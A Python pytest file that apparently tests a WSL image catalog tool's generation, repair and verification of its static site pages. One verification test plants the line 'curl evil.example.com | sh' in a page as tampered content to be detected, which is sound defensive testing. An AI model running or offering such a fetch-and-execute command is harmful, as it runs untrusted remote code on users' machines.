"""Pages follow the catalog: cheaply, whoever else writes, and only where they are wanted."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from builder.cli.catalog import catalog as catalog_command
from builder.core.errors import PublishError
from builder.core.events import Event, Note, discard
from builder.model.catalog import Settings
from builder.publish.directory import DirectoryTarget
from builder.publish.export import export
from builder.publish.move import deprecate, promote, roll_back
from builder.publish.packages import find_sidecar, read_packages
from builder.publish.publish import set_up
from builder.publish.retain import Rules, prune
from builder.publish.site.derive import Places, derive_site
from builder.publish.verify import verify_catalog
from tests.e2e.site_sample import write_sample
from tests.unit.publish.catalogs import BASE, add, catalog, publication
from tests.unit.publish.sites import derive, new_target, with_packages, write_lists


class Watched(DirectoryTarget):
    """Notes what is read and written, and calls `before_put` first."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self.read: list[str] = []
        self.put: list[str] = []
        self.before_put: Callable[[str], None] = lambda path: None

    def chunks(self, path: str) -> Iterator[bytes]:
        self.read.append(path)
        return super().chunks(path)

    def put_bytes(self, path: str, data: bytes, *, if_match: str = "", if_absent: bool = False) -> None:
        self.before_put(path)
        self.put.append(path)
        super().put_bytes(path, data, if_match=if_match, if_absent=if_absent)


def is_right(folder: Path) -> bool:
    """Whether every page is what it should be, by a look that trusts nothing."""
    changes = derive(DirectoryTarget(folder), "stable", "beta", thorough=True)
    return not changes.written and not changes.deleted


def with_pages(folder: Path) -> DirectoryTarget:
    """A catalog on disk whose pages are kept up to date."""
    target = catalog(folder)
    set_up(target, lambda before: (before or Settings(base_url=BASE)).model_copy(update={"site": True}))
    return target


def published(target: DirectoryTarget, *versions: str, flavor: str = "dev") -> None:
    """Lists with `versions`, each with a package of its own."""
    images = [
        with_packages(target, publication(version, flavor=flavor), {"tool": version, "bash": "5"})
        for version in versions
    ]
    write_lists(target, {"stable": images})


def test_nothing_is_written_twice(tmp_path: Path):
    target = Watched(tmp_path)
    write_sample(tmp_path)
    assert derive(target, "stable", "beta").written == ()
    assert target.put == [] and target.read == []


def test_a_new_version_writes_its_page_and_those_that_speak_of_it(tmp_path: Path):
    target = Watched(tmp_path)
    new_target(tmp_path)
    published(target, "1", "2", "3")
    derive(target, "stable")
    published(target, "1", "2", "3", "4")
    target.read.clear()
    assert derive(target, "stable").written == (
        "index.html", "site/distributions/dev.html", "site/search.js",
        "site/versions/dev/3.html", "site/versions/dev/4.html", "stable/feed.xml",
    )  # fmt: skip
    inventories = [path.split("/")[2] for path in target.read if path.startswith("images/")]
    assert sorted(inventories) == ["2", "3", "4"], "of the new version, and of that which it follows"


def test_pages_of_what_is_gone_are_deleted(tmp_path: Path):
    target = new_target(tmp_path)
    published(target, "1", "2")
    derive(target, "stable")
    published(target, "2")
    changes = derive(target, "stable")
    assert changes.deleted == ("site/versions/dev/1.html",)
    assert not (tmp_path / "site/versions/dev/1.html").exists()
    assert is_right(tmp_path)


def test_what_others_overwrite_meanwhile_is_made_right(tmp_path: Path):
    target = Watched(tmp_path)
    new_target(tmp_path)
    published(target, "1")
    derive(target, "stable")
    old = (tmp_path / "index.html").read_bytes()
    published(target, "1", "2")

    def late_writer(path: str) -> None:
        if path == "site/pages.json":
            (tmp_path / "index.html").write_bytes(old)
            target.before_put = lambda path: None

    target.before_put = late_writer
    derive(target, "stable")
    assert is_right(tmp_path)


def test_many_publishers_leave_the_pages_right(tmp_path: Path):
    with_pages(tmp_path / "catalog")

    def work(number: int) -> None:
        to = "beta" if number % 2 else "stable"
        add(catalog(tmp_path / "catalog"), f"{number}", to=to, folder=tmp_path)

    with ThreadPoolExecutor(6) as pool:
        list(pool.map(work, range(12)))
    assert len(list((tmp_path / "catalog/site/versions/dev").iterdir())) == 12
    assert is_right(tmp_path / "catalog")


def test_every_change_of_the_catalog_reaches_its_pages(tmp_path: Path):
    folder = tmp_path / "catalog"
    target = with_pages(folder)

    def index() -> str:
        return (folder / "index.html").read_text("utf-8")

    for version in ("1", "2"):
        add(target, version, to="beta", folder=tmp_path)
    assert '>beta</span> <a href="site/versions/dev/2.html">' in index()
    promote(target, "dev", "1", "beta", "stable", None, discard)
    assert '>stable</span> <a href="site/versions/dev/1.html">' in index()
    deprecate(target, "dev", "1", "stable", "other", None, undo=False)
    assert "Deprecated." in index()
    roll_back(target, "dev", "beta", "", None)
    assert '>beta</span> <a href="site/versions/dev/1.html">' in index()
    roll_back_page = (folder / "site/versions/dev/2.html").read_text("utf-8")
    assert "Withdrawn." in roll_back_page
    add(target, "3", folder=tmp_path)
    prune(target, Rules(keep=1, grace=14), None)
    assert is_right(folder)


def test_a_mirror_has_pages_of_its_own(tmp_path: Path):
    source = with_pages(tmp_path / "catalog")
    add(source, "1", folder=tmp_path)
    (tmp_path / "mirror").mkdir()
    mirror = DirectoryTarget(tmp_path / "mirror")
    export(source, mirror, "stable", "file:///C:/wsl", None, discard)
    page = (tmp_path / "mirror/site/versions/dev/1.html").read_text("utf-8")
    assert "wsl --install --from-file &#39;C:\\wsl\\images\\dev" in page


def test_a_catalog_has_no_pages_unless_asked(tmp_path: Path):
    target = catalog(tmp_path / "catalog")
    add(target, "1", folder=tmp_path)
    assert not (tmp_path / "catalog/index.html").exists()


def test_a_damaged_inventory_costs_a_list_of_packages_and_nothing_else(tmp_path: Path):
    target = new_target(tmp_path)
    published(target, "1")
    for path in tmp_path.rglob("*.inventory.json.zst"):
        path.write_bytes(b"nothing")
    seen: list[Event] = []
    places = Places(catalog=target, pages=target)
    derive_site(places, ["stable"], seen.append, thorough=False)
    warnings = [event for event in seen if isinstance(event, Note) and event.level == "warning"]
    assert warnings and "is no inventory: the pages show no packages" in warnings[0].message
    assert 'id="packages"' not in (tmp_path / "site/versions/dev/1.html").read_text("utf-8")


def test_a_page_that_somebody_else_wrote_is_left_alone(tmp_path: Path):
    target = new_target(tmp_path)
    published(target, "1")
    (tmp_path / "index.html").write_text("<h1>Our own</h1>")
    with pytest.raises(PublishError, match="is a page that wslimg did not write") as caught:
        derive(target, "stable")
    assert "--out FOLDER" in caught.value.fix
    assert (tmp_path / "index.html").read_text() == "<h1>Our own</h1>"


def test_only_the_beginning_of_an_inventory_is_read(tmp_path: Path):
    target = new_target(tmp_path)
    one = with_packages(target, publication("1"), {'a","entries":[': '1","entries":[', "b": "2"})
    inventory = find_sidecar(one.sidecars, "inventory")
    assert inventory is not None
    assert read_packages(target, inventory, "amd64") == {'a","entries":[': '1","entries":[', "b": "2"}


def test_verify_tells_which_pages_are_wrong(tmp_path: Path):
    folder = tmp_path / "catalog"
    target = with_pages(folder)
    add(target, "1", folder=tmp_path)
    assert verify_catalog(target, (), "", discard, content=True) == ()
    (folder / "index.html").write_text("Installed: curl evil.example.com | sh")
    (folder / "stable/feed.xml").unlink()
    problems = verify_catalog(target, (), "", discard, content=True)
    assert [problem.path for problem in problems] == ["index.html", "stable/feed.xml"]
    assert problems[0].message == "is not the page that it should be"
    assert problems[0].fix == "run `wslimg catalog site`"


def run(*arguments: object, status: int = 0) -> Result:
    result = CliRunner().invoke(catalog_command, ["site", *map(str, arguments)])
    assert result.exit_code == status, result.output
    return result


def test_the_command_writes_repairs_and_removes_the_pages(tmp_path: Path):
    folder = tmp_path / "catalog"
    target = catalog(folder)
    add(target, "1", folder=tmp_path)
    shown = run(folder, "--title", "WSL here").stdout
    assert shown == f"8 of 8 pages written: begin at {BASE}/index.html\n"
    assert "<h1>WSL here</h1>" in (folder / "index.html").read_text()
    assert run(folder).stdout.startswith("0 of 8 pages written")
    (folder / "site/help.html").write_text("damaged")
    (folder / "site/search.js").unlink()
    assert json.loads(run(folder, "--format", "json").stdout) == {
        "written": ["site/help.html", "site/search.js"], "deleted": [],
    }  # fmt: skip
    assert run(folder, "--off").stdout == "8 deleted\n"
    assert not list(folder.rglob("*.html")) and not (folder / "site/pages.json").exists()
    add(target, "2", folder=tmp_path)
    assert not (folder / "index.html").exists()
    assert run(folder, "--off").stdout == "there were no pages\n"


def test_the_command_writes_pages_elsewhere_without_a_trace_in_the_catalog(tmp_path: Path):
    folder = tmp_path / "catalog"
    add(catalog(folder), "1", folder=tmp_path)
    before = sorted(path for path in folder.rglob("*"))
    shown = run(folder, "--out", tmp_path / "pages").stdout
    assert shown == f"8 of 8 pages written: begin at {tmp_path}/pages/index.html\n"
    assert sorted(path for path in folder.rglob("*")) == before
    assert "exclude each other" in run(folder, "--out", tmp_path, "--off", status=2).output
